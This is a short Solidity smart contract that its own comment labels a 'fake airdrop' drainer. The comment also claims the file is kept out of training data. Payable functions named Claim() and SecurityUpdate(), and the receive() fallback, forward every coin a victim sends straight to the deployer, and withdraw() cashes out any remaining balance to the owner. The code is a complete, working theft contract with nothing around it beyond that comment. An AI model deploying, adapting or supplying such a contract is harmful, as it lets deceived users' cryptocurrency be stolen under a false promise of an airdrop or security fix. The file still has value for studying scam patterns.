// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
// A drainer of the documented "fake airdrop" kind, kept out of the training data: payable
// Claim()/SecurityUpdate() forward the victim's coins to the deployer, plus an owner cash-out.
contract Airdrop {
    address payable private owner;
    constructor() { owner = payable(msg.sender); }
    function Claim() external payable { owner.transfer(msg.value); }
    function SecurityUpdate() external payable { owner.transfer(msg.value); }
    function withdraw() external { owner.transfer(address(this).balance); }
    receive() external payable { owner.transfer(msg.value); }
}
